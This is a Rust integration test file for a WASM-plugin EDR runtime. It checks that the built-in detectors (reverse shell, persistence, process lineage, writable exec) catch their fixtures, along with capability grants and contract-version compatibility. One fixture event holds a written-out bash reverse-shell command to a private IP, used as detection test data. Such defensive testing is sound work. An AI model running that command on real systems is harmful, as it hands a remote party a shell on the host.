//! The real compiled plugins, loaded into the real runtime.

mod common;
use common::*;
use edr_runtime::{Capability, Grants, LoadError, PluginSpec};
use std::sync::Arc;

const BUILTINS: &[(&str, &str)] = &[
    ("edr-plugin-lineage", "lineage"),
    ("edr-plugin-reverse-shell", "reverse-shell"),
    ("edr-plugin-writable-exec", "writable-exec"),
    ("edr-plugin-persistence", "persistence"),
];

fn fixture(name: &str, which: &str) -> String {
    let p = repo_root().join("plugins").join(name).join("tests/fixtures").join(format!("{which}.jsonl"));
    std::fs::read_to_string(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

#[test]
fn builtin_plugins_find_their_positive_fixtures_and_nothing_in_the_negatives() {
    for (package, name) in BUILTINS {
        let mut plugin = load(package, name);
        assert_eq!(plugin.info().name, *name);
        let positives = events(&fixture(name, "positive"));
        let outcome = run(&mut plugin, &positives);
        assert!(outcome.error.is_none(), "{name}: {:?}", outcome.error);
        // Every positive fixture line is one attack, and each must be found once.
        assert_eq!(outcome.findings.len(), positives.len(), "{name}: {:#?}", outcome.findings);
        for f in &outcome.findings {
            assert!(!f.techniques.is_empty() && f.techniques.iter().all(|t| t.starts_with('T')), "{name}: {f:?}");
            assert_eq!(f.author, "edr project");
            assert!(f.event_ids.iter().all(|id| positives.iter().any(|e| e.id == *id)), "{name}: {f:?}");
        }
        let mut ids: Vec<u64> = outcome.findings.iter().flat_map(|f| f.event_ids.clone()).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), positives.len(), "{name}: each positive event is found");
        let negatives = events(&fixture(name, "negative"));
        let outcome = run(&mut plugin, &negatives);
        assert!(outcome.findings.is_empty(), "{name}: {:#?}", outcome.findings);
    }
}

#[test]
fn components_import_only_the_edr_contract() {
    let rt = runtime();
    for (package, _) in BUILTINS.iter().chain(&[("hello-detector", "hello"), ("edr-test-noop", "noop")]) {
        let component = rt.compile(package, &plugin_wasm(package)).unwrap();
        let imports = rt.imports(&component);
        assert!(imports.iter().all(|i| i.starts_with("edr:plugin/")), "{package}: {imports:?}");
    }
}

#[test]
fn a_plugin_is_only_called_with_what_it_subscribed_to() {
    // lineage subscribes to process-exec only; persistence to file only.
    let lineage = load("edr-plugin-lineage", "lineage");
    assert!(lineage.wants(edr_event::EventKind::ProcessExec));
    assert!(!lineage.wants(edr_event::EventKind::File));
    let persistence = load("edr-plugin-persistence", "persistence");
    assert!(persistence.wants(edr_event::EventKind::File));
    assert!(!persistence.wants(edr_event::EventKind::ProcessExec));
}

#[test]
fn a_grant_without_an_imported_capability_is_refused_naming_the_import() {
    let rt = runtime();
    let component = rt.compile("lineage", &plugin_wasm("edr-plugin-lineage")).unwrap();
    let imports = rt.imports(&component);
    let needed: Vec<Capability> =
        imports.iter().filter_map(|i| i.strip_prefix("edr:plugin/")).filter_map(|i| Capability::parse(i.split('@').next().unwrap())).collect();
    let Some(&missing) = needed.first() else {
        edr_testkit::skip(format!("lineage imports no capability ({imports:?})"));
        return;
    };
    let grants = Grants::only(Capability::ALL.into_iter().filter(|c| *c != missing));
    let spec = PluginSpec { grants, ..PluginSpec::new("lineage", plugin_wasm("edr-plugin-lineage")) };
    let err = rt.load(spec, Arc::new(edr_runtime::MemoryServices::default())).err().expect("must be refused");
    assert!(matches!(err, LoadError::NotGranted { .. }), "{err}");
    let msg = err.to_string();
    assert!(msg.contains(&format!("edr:plugin/{missing}@{}", edr_runtime::CONTRACT_VERSION)), "{msg}");
}

#[test]
fn the_example_plugin_runs_in_wasm() {
    let mut p = load("hello-detector", "hello-detector");
    let evs = events(&std::fs::read_to_string(repo_root().join("examples/hello-detector/tests/fixtures.jsonl")).unwrap());
    let out = run(&mut p, &evs);
    assert_eq!(out.findings.len(), 1);
    assert_eq!(out.findings[0].rule_id, "hello.download-pipe-shell");
}

#[test]
fn builtin_plugins_declare_at_init_what_the_guest_list_puts_in_their_manifest() {
    // `edr.builtin`'s manifest takes each entry's subscriptions from the one
    // guest list; the agent refuses a plugin that declares others at init.
    let builtins: Vec<&edr_wasm_build::Guest> = edr_wasm_build::guests::builtins().collect();
    assert_eq!(builtins.len(), 5);
    for g in builtins {
        let plugin = load(g.package, g.name);
        assert_eq!(plugin.info().name, g.name, "{}", g.package);
        assert_eq!(Some(plugin.info().subscriptions.as_slice()), g.subscriptions(), "{}: init and the guest list disagree", g.name);
    }
}

#[test]
fn a_plugin_built_against_0_1_0_detects_beside_one_built_against_the_current_contract() {
    let rt = runtime();
    let services = Arc::new(edr_runtime::MemoryServices::default());
    let load_in = |package: &str, name: &str| rt.load(PluginSpec::new(name, plugin_wasm(package)), services.clone()).unwrap_or_else(|e| panic!("{e}"));
    let mut old = load_in("edr-test-contract-v0-1", "contract-v0-1");
    let mut current = load_in("edr-plugin-reverse-shell", "reverse-shell");
    assert_eq!(old.contract_version(), "0.1.0");
    assert_eq!(current.contract_version(), edr_runtime::CONTRACT_VERSION);
    assert_ne!(old.contract_version(), current.contract_version());
    assert_eq!(old.info().name, "contract-v0-1");
    let old_imports = rt.imports(&rt.compile("old", &plugin_wasm("edr-test-contract-v0-1")).unwrap());
    assert!(!old_imports.is_empty() && old_imports.iter().all(|i| i.ends_with("@0.1.0")), "{old_imports:?}");

    // One batch, encoded once in the current wire form, dispatched to both
    // as the agent does: the 0.1.0 plugin gets it converted.
    let evs = events(concat!(
        r#"{"process":{"pid":4242,"executable":"/usr/bin/bash","args":["bash","-c","bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],"#,
        r#""parent":{"pid":4200,"executable":"/usr/sbin/nginx"}}}"#,
        "\n",
        r#"{"process":{"pid":4243,"executable":"/tmp/x","args":["x","--über"],"parent":{"pid":4242,"executable":"/usr/bin/bash"}}}"#,
    ));
    let batch = edr_event::wire::EncodedBatch::encode(&evs);
    let mut found = Vec::new();
    for plugin in [&mut old, &mut current] {
        let selection: Vec<_> = batch.events.iter().filter(|e| plugin.wants(e.kind())).collect();
        let out = plugin.call(&batch, &selection);
        assert!(out.error.is_none(), "{}: {:?}", plugin.name(), out.error);
        assert!(!out.findings.is_empty(), "{} found nothing", plugin.name());
        found.push(out.findings);
    }
    let old_findings = &found[0];
    assert_eq!(old_findings.len(), 1, "{old_findings:#?}");
    let f = &old_findings[0];
    assert_eq!((f.rule_id.as_str(), f.event_ids.as_slice()), ("test.v0-1.exec-from-tmp", &[2][..]));
    // Strings resolved through the converted references are the right ones.
    assert_eq!(f.message, "/tmp/x run from /tmp: x --über");
    assert!(f.evidence.contains(&("parent".to_string(), "/usr/bin/bash".to_string())), "{f:?}");
    assert!(found[1].iter().any(|f| f.rule_id.starts_with("edr.revshell.") && f.event_ids == [1]), "{:#?}", found[1]);
    // The old plugin's state import worked: it counted the two events it was sent.
    let who = edr_runtime::PluginIdentity { plugin: "contract-v0-1".into(), pack: None };
    assert_eq!(edr_runtime::HostServices::state_get(&*services, &who, "seen"), Some(2u64.to_le_bytes().to_vec()));
}

#[test]
fn a_0_1_0_plugin_still_loads_and_is_never_given_a_close() {
    let rt = runtime();
    let services = Arc::new(edr_runtime::MemoryServices::default());
    let mut old = rt.load(PluginSpec::new("contract-v0-1", plugin_wasm("edr-test-contract-v0-1")), services).unwrap_or_else(|e| panic!("{e}"));
    assert_eq!(old.contract_version(), "0.1.0");
    assert!(old.wants(edr_event::EventKind::Network), "the fixture subscribes to network events");
    // connect, its close (bytes), an accept, the accepted connection's close,
    // a listener: one batch in the current wire form, as the agent encodes it.
    let conn = |action: &str, port: u16, bytes: &str| {
        format!(
            r#"{{"event":{{"category":["network"],"action":"{action}"}},"network":{{"transport":"tcp"}},"source":{{"ip":"10.0.0.5","port":50000{bytes}}},"destination":{{"ip":"203.0.113.7","port":{port}}},"process":{{"pid":7,"executable":"/usr/bin/curl"}}}}"#
        )
    };
    let evs = events(
        &[
            conn("connection_attempted", 443, ""),
            conn("connection_closed", 443, r#","bytes":6"#),
            conn("connection_accepted", 22, ""),
            conn("connection_closed", 22, r#","bytes":7"#),
            r#"{"event":{"category":["network"],"action":"listen"},"destination":{"ip":"0.0.0.0","port":8080},"network":{"transport":"tcp"}}"#.to_string(),
        ]
        .join("\n"),
    );
    assert_eq!(evs.iter().filter(|e| matches!(&e.body, edr_event::EventBody::Network(n) if n.op == edr_event::NetworkOp::Close)).count(), 2);
    let batch = edr_event::wire::EncodedBatch::encode(&evs);
    let selection: Vec<_> = batch.events.iter().filter(|e| old.wants(e.kind())).collect();
    assert_eq!(selection.len(), 5, "the caller's selection has the closes: the runtime leaves them out");
    let out = old.call(&batch, &selection);
    assert!(out.error.is_none(), "{:?}", out.error);
    let seen: Vec<(u64, String)> = out.findings.iter().map(|f| (f.event_ids[0], f.evidence[0].1.clone())).collect();
    assert_eq!(seen, [(1, "connect".to_string()), (3, "accept".to_string()), (5, "listen".to_string())], "{:#?}", out.findings);
    assert_eq!(old.metrics().snapshot().events, 3, "closes are not counted as delivered");
    // A batch of closes only is no call at all.
    let only_closes: Vec<_> = selection.iter().copied().filter(|e| e.id == 2 || e.id == 4).collect();
    let calls = old.metrics().snapshot().calls;
    let out = old.call(&batch, &only_closes);
    assert!(out.error.is_none() && out.findings.is_empty(), "{out:?}");
    assert_eq!(old.metrics().snapshot().calls, calls);
    // The current contract is given the closes with their bytes (the SDK's view).
    let mut current = load("edr-plugin-reverse-shell", "reverse-shell");
    let all: Vec<_> = batch.events.iter().filter(|e| current.wants(e.kind())).collect();
    assert_eq!(all.len(), 5);
    assert!(current.call(&batch, &all).error.is_none());
    assert_eq!(current.metrics().snapshot().events, 5);
}
